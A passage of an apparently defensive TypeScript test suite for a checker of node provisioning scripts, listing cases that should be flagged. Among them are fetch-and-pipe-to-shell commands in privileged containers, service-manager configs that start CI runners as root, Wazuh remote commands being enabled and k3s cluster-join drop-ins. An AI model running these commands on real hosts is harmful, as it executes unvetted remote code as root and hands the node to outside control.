            "dbus-send --system --print-reply --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.UnsetAndSetEnvironment array:string:HOME array:string:K3S_URL=https://k3s.example.com:6443,K3S_TOKEN=EXAMPLEONLY",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "systemd-run starting the GitLab runner",
        devNodeScript("dev-a7-69-nodes", ["systemd-run --unit=runner /usr/local/bin/gitlab-runner run"]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 70): Docker docs run --entrypoint / --privileged / --pid=host ("full access to the host"): the sh -c script
    // `wget -qO- URL | sh` runs code fetched at run time as root with every host capability (same as user data's own
    // `wget | sh`, which the pack refuses: control below). containerCommand (containers.ts) now reads the -c script
    // (round 69) but a fetch piped into sh inside it is accepted. Fix: judge the entrypoint's -c script as user data's
    // own shell (fetched code piped into sh → refused) for privileged/host-namespace containers. Accepted (got []).
    devNodeCase(
        "docker --entrypoint=/bin/sh (= form) -c on a generic image running the runner",
        devNodeScript("dev-a8-69-nodes", [
            "docker run -d --privileged --pid=host --entrypoint=/bin/sh docker.io/library/alpine:3.20 -c 'wget -qO- https://ci.example.com/r.sh | sh'",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 70): Docker docs run --entrypoint, as the `=` form above: the space form is accepted too, so the gap is
    // the script's content, not the flag's spelling. Accepted (got []).
    devNodeCase(
        "docker --entrypoint /bin/sh (space form) -c fetching a script into sh",
        devNodeScript("dev-a8b-69-nodes", [
            "docker run -d --privileged --pid=host --entrypoint /bin/sh docker.io/library/alpine:3.20 -c 'wget -qO- https://ci.example.com/r.sh | sh'",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "docker --entrypoint=/bin/sh (= form) -c installing and running the GitLab runner",
        devNodeScript("dev-a8c-69-nodes", [
            "docker run -d --privileged --pid=host --net=host --entrypoint=/bin/sh docker.io/library/alpine:3.20 -c 'apk add gitlab-runner && gitlab-runner run'",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "control: user data itself piping a fetched script into sh",
        devNodeScript("dev-a8d-69-nodes", ["wget -qO- https://ci.example.com/r.sh | sh"]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 70): nerdctl run is Docker-compatible (nerdctl README "Docker-compatible CLI for containerd"; --entrypoint,
    // --privileged, --pid=host): same fetched-script-into-sh in a privileged host-PID container. Accepted (got []).
    // Fix as docker's (and read nerdctl/podman as docker).
    devNodeCase(
        "nerdctl --entrypoint sh -c on a generic host-PID image",
        devNodeScript("dev-a9-69-nodes", [
            "nerdctl run -d --privileged --pid=host --entrypoint sh docker.io/library/alpine:3.20 -c 'wget -qO- https://ci.example.com/r.sh | sh'",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 70): podman-run(1) --entrypoint/--privileged/--pid=host: same as docker's. Accepted (got []). Fix as docker's.
    devNodeCase(
        "podman --entrypoint sh -c on a generic host-PID image",
        devNodeScript("dev-a10-69-nodes", [
            "podman run -d --privileged --pid=host --entrypoint sh docker.io/library/alpine:3.20 -c 'wget -qO- https://ci.example.com/r.sh | sh'",
        ]),
        REMOTE,
    ),
    // Round 70 neighbours: the -c line of a node-reaching container read as the user data's own shell, whichever way
    // the shell is given (the image's command, a clustered `-ec`, a busybox applet).
    devNodeCase(
        "docker --privileged IMAGE sh -c (no --entrypoint) fetching a script into sh",
        devNodeScript("dev-a8e-70-nodes", [
            "docker run -d --privileged docker.io/library/alpine:3.20 sh -c 'wget -qO- https://ci.example.com/r.sh | sh'",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "podman --pid=host --entrypoint /bin/bash -ec fetching a script into bash",
        devNodeScript("dev-a8f-70-nodes", [
            "podman run -d --pid=host --entrypoint /bin/bash docker.io/library/bash:5 -ec 'curl -fsSL https://ci.example.com/r.sh | bash'",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "docker --net=host --entrypoint busybox sh -c fetching a script into sh",
        devNodeScript("dev-a8g-70-nodes", [
            "docker run -d --net=host --entrypoint busybox docker.io/library/busybox:1.36 sh -c 'wget -qO- https://ci.example.com/r.sh | sh'",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "pm2 YAML ecosystem starting the GitLab runner",
        devNodeScript("dev-a11-69-nodes", [
            ...heredocFile("/opt/pm2/process.yml", [
                "apps:",
                "  - name: runner",
                "    script: /usr/local/bin/gitlab-runner",
                "    args: run",
            ]),
            "pm2 start /opt/pm2/process.yml",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 71): PM2 docs ("pm2 start app --interpreter bash": the interpreter runs the script): the written /opt/pm2/run
    // `exec gitlab-runner run` starts the GitLab runner as root (others' CI jobs on the node). The round-69 pm2
    // reading (userData.ts ~16704) takes the script as a binary and does not read a written script run by
    // --interpreter. Fix: with --interpreter SH (or a written script), judge the script's text as a shell script
    // (unreadable → fail closed). Accepted (got []).
    devNodeCase(
        "pm2 --interpreter bash of a written script running the runner",
        devNodeScript("dev-a12-69-nodes", [
            ...heredocFile("/opt/pm2/run", ["exec /usr/local/bin/gitlab-runner run"]),
            "pm2 start /opt/pm2/run --interpreter bash --name runner",
        ]),
        REMOTE,
    ),
    // Round 71 neighbours: the interpreter given as `--interpreter=sh`, before the verb, by an ecosystem file's
    // `interpreter:`, or by the script's .sh extension (PM2 runs .sh with bash); a script made at boot fails closed.
    devNodeCase(
        "pm2 --interpreter=sh of a written script running the runner",
        devNodeScript("dev-a12b-71-nodes", [
            ...heredocFile("/opt/pm2/run", ["exec /usr/local/bin/gitlab-runner run"]),
            "pm2 start /opt/pm2/run --interpreter=sh",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "pm2 --name runner --interpreter bash before the start verb",
        devNodeScript("dev-a12c-71-nodes", [
            ...heredocFile("/opt/pm2/run", ["exec /usr/local/bin/gitlab-runner run"]),
            "pm2 --name runner --interpreter bash start /opt/pm2/run",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "pm2 JSON ecosystem app with interpreter bash running a written script",
        devNodeScript("dev-a12d-71-nodes", [
            ...heredocFile("/opt/pm2/run", ["exec /usr/local/bin/gitlab-runner run"]),
            ...heredocFile("/opt/pm2/apps.json", [
                '{"apps": [{"name": "runner", "script": "/opt/pm2/run", "interpreter": "bash"}]}',
            ]),
            "pm2 start /opt/pm2/apps.json",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "pm2 start of a written .sh script (bash by its extension) running the runner",
        devNodeScript("dev-a12e-71-nodes", [
            ...heredocFile("/opt/pm2/run.sh", ["exec /usr/local/bin/gitlab-runner run"]),
            "pm2 start /opt/pm2/run.sh --name runner",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "pm2 --interpreter bash of a downloaded script",
        devNodeScript("dev-a12f-71-nodes", [
            "curl -fsSL -o /opt/pm2/run https://ci.example.com/run",
            "pm2 start /opt/pm2/run --interpreter bash",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "monit exec action running the GitLab runner",
        devNodeScript("dev-a13-69-nodes", [
            ...heredocFile("/etc/monit.d/ci", [
                "check host ci with address 127.0.0.1",
                '  if failed port 8093 then exec "/usr/local/bin/gitlab-runner run"',
            ]),
            "systemctl enable --now monit",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 71): monit(1) `-c file` ("Use this control file"): `monit -c /opt/monit/monitrc` starts the Buildkite agent
    // through `start program`. MONIT_CONFIG (rootReads.ts) only knows /etc/monitrc, /etc/monit.d, /etc/monit/,
    // ~/.monitrc; a -c file elsewhere is not read. Fix: read monit's -c file (and `include` globs in it) as a control
    // file; unreadable → fail closed. Accepted (got []).
    devNodeCase(
        "monit -c own control file starting the buildkite agent",
        devNodeScript("dev-a14-69-nodes", [
            ...heredocFile("/opt/monit/monitrc", [
                "set daemon 30",
                "check process bk matching buildkite-agent",
                '  start program = "/usr/bin/buildkite-agent start --token EXAMPLEONLY"',
            ]),
            "chmod 600 /opt/monit/monitrc",
            "monit -c /opt/monit/monitrc",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 71): Monit manual "INCLUDE FILES" (`include globstring`, any path) : `echo 'include /opt/monit/*.conf' >>
    // /etc/monitrc` pulls /opt/monit/bk.conf whose `start program` runs the Buildkite agent. rootReads.ts monit()
    // reads commands in files under MONIT_CONFIG paths but does not follow `include` globs outside them. Fix: follow
    // include globs into written files (unread → fail closed). Accepted (got []).
    devNodeCase(
        "monit control file included from a written monitrc include",
        devNodeScript("dev-a15-69-nodes", [
            ...heredocFile("/opt/monit/bk.conf", [
                "check process bk matching buildkite-agent",
                '  start program = "/usr/bin/buildkite-agent start --token EXAMPLEONLY"',
            ]),
            "echo 'include /opt/monit/*.conf' >> /etc/monitrc",
            "systemctl restart monit",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 71): Supervisor docs "Configuration File" ("Environment variables that are present in the environment at the
    // time that supervisord is started can be used in the configuration file using the Python string expression syntax
    // %(ENV_X)s"): `RUNNER=/usr/local/bin/gitlab-runner supervisord -c ...` with `command=%(ENV_RUNNER)s run` starts
    // the GitLab runner as root. rootReads.ts (~4506) leaves ENV_ expansions in the command as written. Fix: expand
    // %(ENV_X)s from the launching command's environment where known, else the command is unread (fail closed).
    // Accepted (got []).
    devNodeCase(
        "supervisord program command from %(ENV_RUNNER)s",
        devNodeScript("dev-a16-69-nodes", [
            ...heredocFile("/opt/sup/sup.conf", ["[supervisord]", "[program:r]", "command=%(ENV_RUNNER)s run"]),
            "RUNNER=/usr/local/bin/gitlab-runner supervisord -c /opt/sup/sup.conf",
        ]),
        REMOTE,
    ),
    // Round 71 neighbours of the monit -c / include and supervisord %(ENV_X)s fixes (rootReads.ts monitControlFiles,
    // monit, supervisor, supervisorExpand): monit's getopt_long long option and bundled short options, an include of
    // a directory glob, an include of a file the pack cannot read, a relative include from the launching directory,
    // the working directory's monitrc; ENV_ from an exported variable, from the packaged service (unknown), and an
    // expansion the pack cannot compute.
    devNodeCase(
        "monit --conf=FILE starting the buildkite agent",
        devNodeScript("dev-n1-71-nodes", [
            ...heredocFile("/opt/monit/monitrc", [
                "check process bk matching buildkite-agent",
                '  start program = "/usr/bin/buildkite-agent start --token EXAMPLEONLY"',
            ]),
            "monit --conf=/opt/monit/monitrc",
        ]),
        /Buildkite/,
    ),
    devNodeCase(
        "monit -Ic FILE (bundled) starting the buildkite agent",
        devNodeScript("dev-n2-71-nodes", [
            ...heredocFile("/opt/monit/monitrc", [
                "check process bk matching buildkite-agent",
                '  start program = "/usr/bin/buildkite-agent start --token EXAMPLEONLY"',
            ]),
            "monit -Ic /opt/monit/monitrc",
        ]),
        /Buildkite/,
    ),
    devNodeCase(
        "monit -c FILE including a directory glob that starts the runner",
        devNodeScript("dev-n3-71-nodes", [
            ...heredocFile("/opt/monit/conf.d/ci", [
                "check process ci matching gitlab-runner",
                '  start program = "/usr/local/bin/gitlab-runner run"',
            ]),
            ...heredocFile("/opt/monit/monitrc", ["set daemon 30", "include /opt/monit/conf.d/*"]),
            "monit -c /opt/monit/monitrc",
        ]),
        /GitLab Runner/,
    ),
    devNodeCase(
        "monitrc include written before the file it includes (followed once every file is written)",
        devNodeScript("dev-n4-71-nodes", [
            "echo 'include /opt/monit/*.conf' >> /etc/monitrc",
            ...heredocFile("/opt/monit/bk.conf", [
                "check process bk matching buildkite-agent",
                '  start program = "/usr/bin/buildkite-agent start --token EXAMPLEONLY"',
            ]),
            "systemctl restart monit",
        ]),
        /Buildkite/,
    ),
    devNodeCase(
        "monitrc include of a downloaded control file",
        devNodeScript("dev-n5-71-nodes", [
            "mkdir -p /opt/monit",
            "curl -fsSL -o /opt/monit/ci.conf https://config.example.com/monit/ci.conf",
            "echo 'include /opt/monit/*.conf' >> /etc/monitrc",
            "systemctl restart monit",
        ]),
        /cannot read/,
    ),
    devNodeCase(
        "monit -c FILE with a relative include from the launching directory",
        devNodeScript("dev-n6-71-nodes", [
            ...heredocFile("/opt/monit/extra/bk", [
                "check process bk matching buildkite-agent",
                '  start program = "/usr/bin/buildkite-agent start --token EXAMPLEONLY"',
            ]),
            ...heredocFile("/opt/monit/monitrc", ["include extra/*"]),
            "cd /opt/monit && monit -c monitrc",
        ]),
        /Buildkite/,
    ),
    devNodeCase(
        "bare monit reading ./monitrc in its working directory",
        devNodeScript("dev-n7-71-nodes", [
            ...heredocFile("/opt/monit/monitrc", [
                "check process bk matching buildkite-agent",
                '  start program = "/usr/bin/buildkite-agent start --token EXAMPLEONLY"',
            ]),
            "cd /opt/monit",
            "monit",
        ]),
        /Buildkite/,
    ),
    devNodeCase(
        "supervisord %(ENV_RUNNER)s from an exported variable",
        devNodeScript("dev-n8-71-nodes", [
            ...heredocFile("/opt/sup/sup.conf", ["[supervisord]", "[program:r]", "command=%(ENV_RUNNER)s run"]),
            "export RUNNER=/usr/local/bin/gitlab-runner",
            "supervisord -c /opt/sup/sup.conf",
        ]),
        /GitLab Runner/,
    ),
    devNodeCase(
        "supervisord.d program with %(ENV_BIN)s under the packaged service (environment unknown)",
        devNodeScript("dev-n9-71-nodes", [
            ...heredocFile("/etc/supervisord.d/r.ini", ["[program:r]", "command=%(ENV_BIN)s/node_exporter"]),
            "systemctl enable --now supervisord",
        ]),
        /cannot compute/,
    ),
    devNodeCase(
        "supervisord %(host_node_name)s in a program's command (unknown to the pack)",
        devNodeScript("dev-n10-71-nodes", [
            ...heredocFile("/opt/sup/sup.conf", [
                "[supervisord]",
                "[program:r]",
                "command=/opt/%(host_node_name)s/bin/agent",
            ]),
            "supervisord -c /opt/sup/sup.conf",
        ]),
        /cannot compute/,
    ),
    devNodeCase(
        "supervisord %(here)s running a written script that starts the runner",
        devNodeScript("dev-n11-71-nodes", [
            ...heredocFile("/opt/sup/run.sh", ["#!/bin/sh", "exec /usr/local/bin/gitlab-runner run"]),
            ...heredocFile("/opt/sup/sup.conf", ["[supervisord]", "[program:r]", "command=/bin/sh %(here)s/run.sh"]),
            "supervisord -c /opt/sup/sup.conf",
        ]),
        /GitLab Runner/,
    ),
    devNodeCase(
        "unit ExecStart=monit -I -c FILE starting the buildkite agent",
        devNodeScript("dev-n12-71-nodes", [
            ...heredocFile("/opt/monit/monitrc", [
                "check process bk matching buildkite-agent",
                '  start program = "/usr/bin/buildkite-agent start --token EXAMPLEONLY"',
            ]),
            ...heredocFile("/etc/systemd/system/m.service", [
                "[Service]",
                "ExecStart=/usr/bin/monit -I -c /opt/monit/monitrc",
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            "systemctl enable --now m",
        ]),
        /Buildkite/,
    ),
    devNodeCase(
        "unit Environment= feeding supervisord's %(ENV_RUNNER)s",
        devNodeScript("dev-n13-71-nodes", [
            ...heredocFile("/opt/sup/sup.conf", ["[supervisord]", "[program:r]", "command=%(ENV_RUNNER)s run"]),
            ...heredocFile("/etc/systemd/system/s.service", [
                "[Service]",
                "Environment=RUNNER=/usr/local/bin/gitlab-runner",
                "ExecStart=/usr/bin/supervisord -n -c /opt/sup/sup.conf",
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            "systemctl enable --now s",
        ]),
        /GitLab Runner/,
    ),
    devNodeCase(
        "supervisord.d/*.ini of the packaged supervisord (EPEL layout)",
        devNodeScript("dev-a17-69-nodes", [
            ...heredocFile("/etc/supervisord.d/runner.ini", [
                "[program:runner]",
                "command=/usr/local/bin/gitlab-runner run",
            ]),
            "systemctl enable --now supervisord",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 70): Wazuh "Internal configuration" (agent: /var/ossec/etc/internal_options.conf, with
    // local_internal_options.conf as local overrides): `wazuh_command.remote_commands=1` in internal_options.conf
    // enables the manager's remote commands (root commands on the node) unless local_internal_options.conf overrides
    // it. userData.ts ~17216 reads local_internal_options.conf only. Fix: read internal_options.conf the same way
    // (local file's value wins). Accepted (got []).
    devNodeCase(
        "wazuh remote commands appended to internal_options.conf",
        devNodeScript("dev-a18-69-nodes", [
            "echo 'wazuh_command.remote_commands=1' >> /var/ossec/etc/internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    // Round 70 neighbour: internal_options.conf enabling logcollector's remote commands, the local file untouched.
    devNodeCase(
        "wazuh logcollector remote commands set in internal_options.conf by sed",
        devNodeScript("dev-a18b-70-nodes", [
            "sed -i 's/^logcollector.remote_commands=0/logcollector.remote_commands=1/' /var/ossec/etc/internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "wazuh sca remote commands appended",
        devNodeScript("dev-a19-69-nodes", [
            "echo 'sca.remote_commands=1' >> /var/ossec/etc/local_internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "wazuh remote commands appended by cat >> heredoc",
        devNodeScript("dev-a20-69-nodes", [
            "cat >> /var/ossec/etc/local_internal_options.conf <<'EOF'",
            "wazuh_command.remote_commands=1",
            "EOF",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "wazuh remote commands appended with sed -i $a",
        devNodeScript("dev-a21-69-nodes", [
            "sed -i '$a wazuh_command.remote_commands=1' /var/ossec/etc/local_internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 70): systemd.unit(5) System Unit Search Path (first: /etc/systemd/system.control/*,
    // /run/systemd/system.control/*, /run/systemd/transient/*; drop-in .d/ dirs are read from every load-path
    // directory): a k3s.service.d/ drop-in there with K3S_URL joins another cluster. packagedUnitAgent's drop-in
    // directories are /etc|/run|/usr/lib/systemd/system. Fix: read drop-ins from the whole system unit search path
    // (system.control, transient, generator*, /usr/local/lib). Accepted (got []).
    devNodeCase(
        "k3s drop-in in /etc/systemd/system.control (the D-Bus API's directory)",
        devNodeScript("dev-a22-69-nodes", [
            ...heredocFile("/etc/systemd/system.control/k3s.service.d/50-join.conf", [
                "[Service]",
                'Environment="K3S_URL=https://k3s.example.com:6443"',
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    // Round 70 neighbours: the other search-path directories (/run/systemd/system.control, /run/systemd/transient).
    devNodeCase(
        "k3s drop-in in /run/systemd/system.control",
        devNodeScript("dev-a22b-70-nodes", [
            ...heredocFile("/run/systemd/system.control/k3s.service.d/50-join.conf", [
                "[Service]",
                'Environment="K3S_URL=https://k3s.example.com:6443"',
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s drop-in in /run/systemd/transient",
        devNodeScript("dev-a22c-70-nodes", [
            ...heredocFile("/run/systemd/transient/k3s.service.d/join.conf", [
                "[Service]",
                'Environment="K3S_URL=https://k3s.example.com:6443"',
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 71): systemd.unit(5) (a unit file symlinked under another name is an alias of it) and systemd PR #13119 "Rework
    // unit loading to take into account all aliases" (systemd 243+: drop-ins of every alias name are read):
    // `kube.service -> k3s.service` started as kube with kube.service.d/ K3S_URL runs the packaged k3s server joined
    // to another cluster. The pack does not follow unit symlinks to packaged units. Fix: resolve `ln -s` unit aliases
    // (and Alias=) to the unit they name and read drop-ins of every name. Accepted (got []).
    devNodeCase(
        "k3s unit symlinked as an alias started by the alias name with a drop-in",
        devNodeScript("dev-a23-69-nodes", [
            "ln -s /etc/systemd/system/k3s.service /etc/systemd/system/kube.service",
            ...heredocFile("/etc/systemd/system/kube.service.d/join.conf", [
                "[Service]",
                'Environment="K3S_URL=https://k3s.example.com:6443"',
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now kube",
        ]),
        REMOTE,
    ),
    // Round 71 neighbours: the alias's drop-in applies when the unit is started by its own name too; a relative link
    // made in the unit directory; an alias of the GitLab runner's packaged unit started by the alias; an Alias= in
    // the [Install] section of a unit file user data wrote (systemctl enable makes the link).
    devNodeCase(
        "k3s aliased as kube with a kube.service.d drop-in, started as k3s",
        devNodeScript("dev-a23b-71-nodes", [
            "ln -sf /usr/lib/systemd/system/k3s.service /etc/systemd/system/kube.service",
            ...heredocFile("/etc/systemd/system/kube.service.d/join.conf", [
                "[Service]",
                'Environment="K3S_URL=https://k3s.example.com:6443"',
            ]),
            "systemctl daemon-reload",
            "systemctl restart k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s aliased by a relative link in /etc/systemd/system with a drop-in",
        devNodeScript("dev-a23c-71-nodes", [
            "cd /etc/systemd/system && ln -s k3s.service kube.service",
            ...heredocFile("/etc/systemd/system/kube.service.d/join.conf", [
                "[Service]",
                'Environment="K3S_URL=https://k3s.example.com:6443"',
            ]),
            "systemctl enable --now kube",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s unit written with [Install] Alias=kube.service and a kube.service.d drop-in",
        devNodeScript("dev-a23e-71-nodes", [
            ...heredocFile("/etc/systemd/system/k3s.service", [
                "[Unit]",
                "Description=k3s",
                "[Service]",
                "ExecStart=/usr/local/bin/k3s server",
                "[Install]",
                "WantedBy=multi-user.target",
                "Alias=kube.service",
            ]),
            ...heredocFile("/etc/systemd/system/kube.service.d/join.conf", [
                "[Service]",
                'Environment="K3S_URL=https://k3s.example.com:6443"',
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "gitlab-runner's packaged unit aliased as ci and started by the alias",
        devNodeScript("dev-a23d-71-nodes", [
            "ln -s /usr/lib/systemd/system/gitlab-runner.service /etc/systemd/system/ci.service",
            "systemctl daemon-reload",
            "systemctl enable --now ci",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "systemctl -q set-environment K3S_URL (an option before the verb)",
        devNodeScript("dev-a24-69-nodes", [
            "systemctl -q set-environment K3S_URL=https://k3s.example.com:6443 K3S_TOKEN=EXAMPLEONLY",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s drop-in in /usr/local/lib/systemd/system/k3s.service.d",
        devNodeScript("dev-a25-69-nodes", [
            ...heredocFile("/usr/local/lib/systemd/system/k3s.service.d/join.conf", [
                "[Service]",
                'Environment="K3S_URL=https://k3s.example.com:6443"',
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
];

const agentsSecure: NodeCase[] = [
    // Round 71 neighbours of the unit alias fix: an alias with no drop-in, and one with a harmless drop-in.
    devNodeCase(
        "k3s unit symlinked as an alias started by the alias name, no drop-in",
        devNodeScript("dev-as16-71-nodes", [
            "ln -s /etc/systemd/system/k3s.service /etc/systemd/system/kube.service",
            "systemctl daemon-reload",
            "systemctl enable --now kube",
        ]),
    ),
    devNodeCase(
        "k3s unit written with [Install] Alias=kube.service, no drop-in",
        devNodeScript("dev-as18-71-nodes", [
            ...heredocFile("/etc/systemd/system/k3s.service", [
                "[Unit]",
                "Description=k3s",
                "[Service]",
                "ExecStart=/usr/local/bin/k3s server",
                "[Install]",
                "WantedBy=multi-user.target",
                "Alias=kube.service",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
    ),
    devNodeCase(
        "k3s unit symlinked as an alias with a harmless drop-in for the alias",
        devNodeScript("dev-as17-71-nodes", [
            "ln -s /etc/systemd/system/k3s.service /etc/systemd/system/kube.service",
            ...heredocFile("/etc/systemd/system/kube.service.d/mode.conf", [
                "[Service]",
                'Environment="K3S_KUBECONFIG_MODE=0600"',
            ]),
            "systemctl enable --now kube",
        ]),
    ),
    // Round 71 neighbours of the pm2 --interpreter fix: node running a harmless script, bash running a harmless one.
    devNodeCase(
        "pm2 --interpreter node of a harmless written script",
        devNodeScript("dev-as14-71-nodes", [
            ...heredocFile("/opt/pm2/hello.js", ['setInterval(() => console.log("hi"), 60000);']),
            "pm2 start /opt/pm2/hello.js --interpreter node --name hello",
        ]),
    ),
    devNodeCase(
        "pm2 --interpreter bash of a harmless written script",
        devNodeScript("dev-as15-71-nodes", [
            ...heredocFile("/opt/pm2/tick", ["while true; do date >> /var/log/tick.log; sleep 60; done"]),
            "pm2 start /opt/pm2/tick --interpreter bash --name tick",
        ]),
    ),
    // Round 70 neighbour of the system.control fix: a harmless drop-in there.
    devNodeCase(
        "k3s drop-in in /etc/systemd/system.control setting a harmless variable",
        devNodeScript("dev-as13-70-nodes", [
            ...heredocFile("/etc/systemd/system.control/k3s.service.d/50-mode.conf", [
                "[Service]",
                'Environment="K3S_KUBECONFIG_MODE=0600"',
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
    ),
    // Round 70 neighbour of the busctl SetEnvironment fix: a harmless variable through the same call.
    devNodeCase(
        "busctl SetEnvironment of a harmless variable, k3s started",
        devNodeScript("dev-as12-70-nodes", [
            "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager SetEnvironment as 1 K3S_KUBECONFIG_MODE=0600",
            "systemctl enable --now k3s",
        ]),
    ),
    // Round 70 neighbours of the wazuh internal_options.conf fix: the default restated, and a local override to 0
    // (Wazuh docs "Internal configuration": local_internal_options.conf's settings win).
    devNodeCase(
        "wazuh internal_options.conf restating remote_commands=0",
        devNodeScript("dev-as10-70-nodes", [
            "echo 'wazuh_command.remote_commands=0' >> /var/ossec/etc/internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
    ),
    devNodeCase(
        "wazuh internal_options.conf remote_commands=1 overridden to 0 in local_internal_options.conf",
        devNodeScript("dev-as11-70-nodes", [
            "echo 'wazuh_command.remote_commands=1' >> /var/ossec/etc/internal_options.conf",
            "echo 'wazuh_command.remote_commands=0' >> /var/ossec/etc/local_internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
    ),
    // Round 70 neighbours of the container -c fix: a container no more powerful than an admitted pod is judged as
    // that pod (its fetched script is the pod's business), and a node-reaching one whose -c line is known harmless.
    devNodeCase(
        "docker --entrypoint sh -c fetching a script in an unprivileged container (pod-like)",
        devNodeScript("dev-as8-70-nodes", [
            "docker run -d --entrypoint sh docker.io/library/alpine:3.20 -c 'wget -qO- https://ci.example.com/r.sh | sh'",
        ]),
    ),
    devNodeCase(
        "docker --privileged --pid=host --entrypoint sh -c setting a sysctl",
        devNodeScript("dev-as9-70-nodes", [
            "docker run -d --privileged --pid=host --entrypoint sh docker.io/library/alpine:3.20 -c 'sysctl -w vm.max_map_count=262144 && sleep infinity'",
        ]),
    ),
    devNodeCase(
        "type-wide service.d drop-in with TZ only",
        devNodeScript("dev-as1-69-nodes", [
            ...heredocFile("/etc/systemd/system/service.d/10-tz.conf", ["[Service]", "Environment=TZ=UTC"]),
            "systemctl daemon-reload",
            "systemctl restart amazon-ssm-agent",
        ]),
    ),
    devNodeCase(
        "wazuh agent.debug appended to internal_options.conf",
        devNodeScript("dev-as2-69-nodes", [
            "echo 'agent.debug=1' >> /var/ossec/etc/local_internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
    ),
    devNodeCase(
        "monit exec action restarting node_exporter",
        devNodeScript("dev-as3-69-nodes", [
            ...heredocFile("/etc/monit.d/ne", [
                "check host ne with address 127.0.0.1",
                '  if failed port 9100 then exec "/usr/bin/systemctl restart node_exporter"',
            ]),
            "systemctl enable --now monit",
        ]),
    ),
    devNodeCase(
        "pm2 YAML ecosystem starting node_exporter on loopback",
        devNodeScript("dev-as4-69-nodes", [
            ...heredocFile("/opt/pm2/process.yml", [
                "apps:",
                "  - name: ne",
                "    script: /usr/local/bin/node_exporter",
                "    args: --web.listen-address=127.0.0.1:9100",
            ]),
            "pm2 start /opt/pm2/process.yml",
        ]),
    ),
    // Round 71 secure twins of the monit -c / include and supervisord %(ENV_X)s fixes: a -c control file, an included
    // directory, ENV_ and %(here)s expansions the pack computes, each running only harmless commands.
    devNodeCase(
        "monit -c own control file restarting node_exporter on loopback failure",
        devNodeScript("dev-s1-71-nodes", [
            ...heredocFile("/opt/monit/monitrc", [
                "set daemon 30",
                "check host ne with address 127.0.0.1",
                '  if failed port 9100 then exec "/usr/bin/systemctl restart node_exporter"',
            ]),
            "chmod 600 /opt/monit/monitrc",
            "monit -c /opt/monit/monitrc",
        ]),
    ),
    devNodeCase(
        "monitrc include of a written directory of harmless checks",
        devNodeScript("dev-s2-71-nodes", [
            ...heredocFile("/opt/monit/conf.d/ne", [
                "check process ne matching node_exporter",
                '  start program = "/usr/bin/systemctl start node_exporter"',
            ]),
            "echo 'include /opt/monit/conf.d/*' >> /etc/monitrc",
            "systemctl restart monit",
        ]),
    ),
    devNodeCase(
        "supervisord %(ENV_HOME)s directory= and %(here)s command of a loopback node_exporter",
        devNodeScript("dev-s3-71-nodes", [
            ...heredocFile("/opt/sup/ne.sh", [
                "#!/bin/sh",
                "exec /usr/local/bin/node_exporter --web.listen-address=127.0.0.1:9100",
            ]),
            ...heredocFile("/opt/sup/sup.conf", [
                "[supervisord]",
                "[program:ne]",
                "command=/bin/sh %(here)s/ne.sh",
                "directory=%(ENV_HOME)s",
            ]),
            "HOME=/root supervisord -c /opt/sup/sup.conf",
        ]),
    ),
    devNodeCase(
        "supervisord %(ENV_NE)s command of a loopback node_exporter",
        devNodeScript("dev-s4-71-nodes", [
            ...heredocFile("/opt/sup/sup.conf", [
                "[supervisord]",
                "[program:ne]",
                "command=%(ENV_NE)s --web.listen-address=127.0.0.1:9100",
            ]),
            "NE=/usr/local/bin/node_exporter supervisord -c /opt/sup/sup.conf",
        ]),
    ),
    devNodeCase(
        "supervisord.d/*.ini loopback node_exporter (EPEL layout)",
        devNodeScript("dev-as5-69-nodes", [
            ...heredocFile("/etc/supervisord.d/ne.ini", [
                "[program:ne]",
